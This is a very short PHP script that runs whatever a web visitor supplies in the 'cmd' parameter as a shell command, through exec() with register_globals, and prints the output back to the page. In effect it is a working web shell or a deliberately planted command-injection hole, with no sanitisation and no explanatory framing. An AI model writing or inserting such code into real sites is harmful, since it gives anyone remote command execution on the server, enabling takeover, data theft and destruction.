<?php
// register_globals: $cmd is the visitor's
$output = array();
exec("cd /tmp; $cmd", $output);
echo '<pre>' . implode("\n", $output) . '</pre>';
